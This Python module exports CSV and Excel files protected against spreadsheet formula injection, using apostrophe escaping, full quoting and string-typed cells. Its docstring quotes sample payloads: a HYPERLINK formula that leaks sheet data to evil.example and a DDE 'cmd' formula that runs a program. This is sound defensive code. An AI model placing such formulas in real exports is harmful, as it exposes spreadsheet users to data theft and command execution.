"""Tables written as CSV or Excel files that a spreadsheet opens as data, never as formulas.

Every CSV and workbook the product writes goes through here. A spreadsheet runs a cell that
starts with = + - @ (some also after a tab or a carriage return) as a formula: a name like
`=HYPERLINK("http://evil.example/?"&A1)` leaks the sheet, `+cmd|' /C calc'!A0` runs a program.
As OWASP advises, such a text cell is written with a leading apostrophe, which spreadsheets
read as "this is text", and every text cell is quoted (inner quotes doubled), so no separator
inside it, "," or the ";" of many locales, can start a new cell.
In a workbook the text is kept exactly, in a string cell marked with Excel's own apostrophe
(quotePrefix), so it stays text even when someone edits it.

Numbers stay numbers: an int or a float is never touched, nor is text that is a plain decimal
number such as "-2.5" (an answer or a custom attribute typed as text): a spreadsheet reads it as
that number, which can call nothing, and sorting and sums keep working on it.

The importer takes the apostrophe off again (`unescape_formula`), so an exported inventory
re-imports unchanged. Text that already starts with apostrophes before a formula character
gets one more, so that the two are exact inverses.
"""

import csv
import io
import json
import math
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any, BinaryIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Any run of apostrophes, then a formula character: the cells that gain (or lose) one apostrophe.
_ESCAPED = re.compile(r"'*[=+\-@\t\r]")
_MAY_ESCAPE = frozenset("'=+-@\t\r")  # a cheap first look: most cells start otherwise
_ESCAPED_ON_READ = re.compile(r"'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def escape_formula(text: str) -> str:
    """The text as a spreadsheet shows it but never runs it: a leading apostrophe if needed."""
    if text[:1] in _MAY_ESCAPE and _ESCAPED.match(text) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def unescape_formula(text: str) -> str:
    """The text `escape_formula` was given: one apostrophe off, where it put one on."""
    if text[:1] == "'" and _ESCAPED_ON_READ.match(text):
        return text[1:]
    return text


def cell_value(value: Any) -> Any:
    """A value a spreadsheet cell holds: numbers stay numbers, the rest becomes text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if not math.isfinite(value):
            return str(value)
        return int(value) if value.is_integer() else value
    if isinstance(value, int | str):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, dict | list):
        return json.dumps(value, sort_keys=True, default=str)
    return str(value)


def _csv_cell(value: Any) -> Any:
    if type(value) is not str:  # most cells are text: skip the dispatch for them
        value = cell_value(value)
        if not isinstance(value, str):
            return value
    return escape_formula(value)


def csv_file(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file (UTF-8, CRLF) of the header and rows, text quoted and never a formula."""
    buffer = io.BytesIO()
    write_csv(buffer, header, rows)
    return buffer.getvalue()


def write_csv(target: BinaryIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """`csv_file` written to `target` as the rows come: a whole flow's file never sits in memory."""
    # A byte-order mark makes Excel read the file as UTF-8; the importer skips it.
    text = io.TextIOWrapper(target, encoding="utf-8-sig", newline="", write_through=False)
    # Text is always quoted: Excel in many locales splits on ";", and would otherwise cut
    # "x;=cmd|..." into two cells, the second a formula. Numbers stay bare.
    writer = csv.writer(text, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([_csv_cell(name) for name in header])
    writer.writerows([_csv_cell(value) for value in row] for row in rows)
    text.flush()
    text.detach()  # the caller's file stays open


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """What a write-only sheet's row takes for `value`: numbers as they are, text in a string
    cell that is never a formula."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value is None:
        return None
    value = cell_value(value)
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    written = WriteOnlyCell(sheet, value=text)
    written.data_type = "s"  # a string cell, never a formula, whatever the text starts with
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        written.quotePrefix = True  # and it stays text when edited in Excel
    return written


def xlsx_file(title: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A one-sheet workbook of the header and rows; text is never a formula."""
    buffer = io.BytesIO()
    write_xlsx(buffer, title, header, rows)
    return buffer.getvalue()


def write_xlsx(
    target: BinaryIO, title: str, header: Sequence[str], rows: Iterable[Sequence[Any]]
) -> None:
    """`xlsx_file` written to `target` (the sheet's rows go to a temporary file as they come)."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    sheet.append([xlsx_cell(sheet, name) for name in header])
    for row in rows:
        sheet.append([xlsx_cell(sheet, value) for value in row])
    workbook.save(target)
